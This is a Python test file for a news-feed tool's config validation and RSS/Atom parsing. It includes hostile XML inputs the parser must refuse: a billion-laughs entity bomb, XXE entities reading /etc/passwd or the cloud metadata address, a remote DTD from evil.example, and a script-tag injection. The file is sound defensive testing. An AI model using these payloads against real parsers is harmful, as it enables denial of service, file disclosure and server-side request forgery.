"""feeds.yaml validation (messages point at the entry to fix) and feed parsing, including hostile XML."""

from __future__ import annotations

from pathlib import Path

import pytest

from newsbrief.errors import ConfigError, InputError
from newsbrief.sources.feeds import (
    ClusterSettings,
    FeedConfig,
    check_xml_safety,
    load_feeds,
    load_feeds_file,
    parse_feed,
)

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / ".." / "shared" / "data" / "feeds" / "rss-parser-fixtures"


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "feeds.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_valid_file_with_defaults_and_per_feed_limits(tmp_path):
    feeds = load_feeds(write(tmp_path, """
defaults:
  max_entries: 20
  fetch_pages: false
feeds:
  - url: https://www.example.com/rss.xml
    name: Example News
    topics: [economy, trade]
    language: en
  - url: https://other.example/atom.xml
    max_entries: 5
    max_bytes: 100000
    timeout: 10
    enabled: false
"""))
    assert feeds == [
        FeedConfig(url="https://www.example.com/rss.xml", name="Example News", topics=("economy", "trade"),
                   language="en", max_entries=20, fetch_pages=False),
        FeedConfig(url="https://other.example/atom.xml", name="other.example", max_entries=5, max_bytes=100000,
                   timeout=10.0, enabled=False, fetch_pages=False),
    ]


@pytest.mark.parametrize("text, line, words", [
    ("feeds:\n  - url: ftp://example.com/feed\n", 2, "absolute http(s) URL"),
    ("feeds:\n  - name: No URL\n", 2, "'url' is missing"),
    ("feeds:\n  - url: https://a.example/f\n  - url: https://A.example/f\n", 3, "already declared on line 2"),
    ("feeds:\n  - url: https://a.example/1\n    name: Same\n  - url: https://b.example/2\n    name: same\n",
     5, "already used on line 3"),
    ("feeds:\n  - url: https://a.example/f\n    max_entries: 0\n", 3, "at least 1"),
    ("feeds:\n  - url: https://a.example/f\n    enabled: yes please\n", 3, "true or false"),
    ("feeds:\n  - url: https://a.example/f\n    langauge: en\n", 3, "unknown key 'langauge'"),
    ("feeds:\n  - url: https://a.example/f\n    language: English!\n", 3, "language code"),
    ("feeds:\n  - https://a.example/f\n", 2, "must be a mapping"),
    ("feeds:\n  - url: https://a.example/f\n    topics: economy\n", 3, "must be a list"),
    ("feeds:\n  - url: [https://a.example/f\n", None, "not valid YAML"),
])
def test_mistakes_name_the_line_and_the_fix(tmp_path, text, line, words):
    with pytest.raises(ConfigError) as err:
        load_feeds(write(tmp_path, text))
    assert words in str(err.value)
    if line is not None:
        assert err.value.line == line and f"feeds.yaml:{line}" in str(err.value)


def test_clustering_settings(tmp_path):
    config = load_feeds_file(write(tmp_path, "clustering:\n  threshold: 0.5\n  window_hours: 24\nfeeds: []\n"))
    assert config.clustering == ClusterSettings(threshold=0.5, window_hours=24.0) and config.feeds == []
    assert load_feeds_file(write(tmp_path, "feeds: []\n")).clustering == ClusterSettings()
    with pytest.raises(ConfigError) as err:
        load_feeds_file(write(tmp_path, "clustering:\n  threshold: 3\n"))
    assert err.value.line == 2 and "at most 1" in str(err.value)


@pytest.mark.parametrize("path", ["config/feeds.yaml", "demo/feeds.yaml"])
def test_the_shipped_feed_files_are_valid(path):
    feeds = load_feeds(ROOT / path)
    assert feeds and all(f.url.startswith("http") for f in feeds)


def test_empty_file_means_no_feeds(tmp_path):
    assert load_feeds(write(tmp_path, "")) == []


def test_atom_entries_with_dates_authors_and_content():
    if not FIXTURES.exists():
        pytest.skip(f"shared real data not found at {FIXTURES.resolve()}")
    feed = parse_feed((FIXTURES / "heise.atom").read_bytes(), url="https://www.heise.de/developer/rss/news-atom.xml")
    assert len(feed.entries) == 15 and feed.bozo is None
    entry = feed.entries[0]
    assert entry.title == "Java-Anwendungsserver: Red Hat gibt WildFly 10 frei"
    assert entry.published_at is not None and entry.published_at.utcoffset().total_seconds() == 0
    assert entry.url.startswith("http://www.heise.de/developer/meldung/") and "wt_mc" not in entry.url


def test_relative_links_and_html_summaries():
    body = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><link>https://news.example/</link>
    <item><title>Caf&#233; &amp; bar</title><link>/2024/a.html?utm_source=x</link>
    <description>&lt;p&gt;First &lt;b&gt;para&lt;/b&gt;.&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;p&gt;Second.&lt;/p&gt;</description>
    </item></channel></rss>"""
    (entry,) = parse_feed(body, url="https://news.example/feed.xml").entries
    assert entry.title == "Café & bar"
    assert entry.url == "https://news.example/2024/a.html"
    assert entry.summary == "First para.\nSecond." and "alert" not in entry.summary


def test_feed_language_and_forced_language():
    body = b"""<rss version="2.0"><channel><title>t</title><language>de-DE</language>
    <item><title>Hallo</title><link>http://x.example/1</link></item></channel></rss>"""
    assert parse_feed(body, url="http://x.example/").entries[0].language == "de-de"
    assert parse_feed(body, url="http://x.example/", language="en").entries[0].language == "en"


@pytest.mark.parametrize("body, words", [
    (b"", "empty"),
    (b"<!doctype html><html><body>hello</body></html>", "HTML page"),
    (b"just some text, not xml at all", "not a feed"),
    (b'<rss version="2.0"><channel><title>No items</title></channel></rss>', "no entries"),
])
def test_feeds_without_entries_are_reported_with_a_reason(body, words):
    with pytest.raises(InputError) as err:
        parse_feed(body, url="http://x.example/feed")
    assert words in err.value.reason and "http://x.example/feed" in str(err.value)


BILLION_LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>
<rss version="2.0"><channel><item><title>&lol2;</title></item></channel></rss>"""


@pytest.mark.parametrize("body, words", [
    (BILLION_LAUGHS, "billion laughs"),
    (BILLION_LAUGHS.decode().encode("utf-16"), "billion laughs"),
    (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title></item></channel></rss>',
     "external"),
    (b'<!DOCTYPE r [<!ENTITY x PUBLIC "-//x" "http://169.254.169.254/">]><rss/>', "external"),
    (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>', "parameter"),
    (b'<!DOCTYPE r [<!ENTITY big "' + b"x" * 5000 + b'">]><rss><channel><item><title>' + b"&big;" * 100
     + b"</title></item></channel></rss>", "expand"),
])
def test_hostile_xml_is_refused_before_parsing(body, words):
    with pytest.raises(InputError) as err:
        parse_feed(body, url="http://x.example/feed")
    assert words in err.value.reason and "refused" in err.value.reason


def test_a_small_internal_entity_is_fine():
    body = b"""<!DOCTYPE rss [
  <!ENTITY co "Example Company">
]>
<rss version="2.0"><channel><title>t</title><item><title>News from &co;</title>
    <link>http://x.example/1</link></item></channel></rss>"""
    check_xml_safety(body, "x")
    assert parse_feed(body, url="http://x.example/").entries[0].title == "News from Example Company"


@pytest.mark.parametrize("value", ["&#160;", "&#xA0;", "&#8212;&#8212;"])
def test_an_entity_declaring_a_character_reference_is_accepted(value):
    body = f"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "{value}">]>
<rss version="2.0"><channel><title>t</title><item><title>Port&nbsp;reopens</title>
    <link>http://x.example/1</link></item></channel></rss>""".encode()
    check_xml_safety(body, "x")
    assert parse_feed(body, url="http://x.example/").entries[0].title.startswith("Port")


def test_a_recursive_entity_is_still_refused():
    body = b'<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><rss><channel><title>&a;</title></channel></rss>'
    with pytest.raises(InputError, match="refers to other entities"):
        check_xml_safety(body, "x")
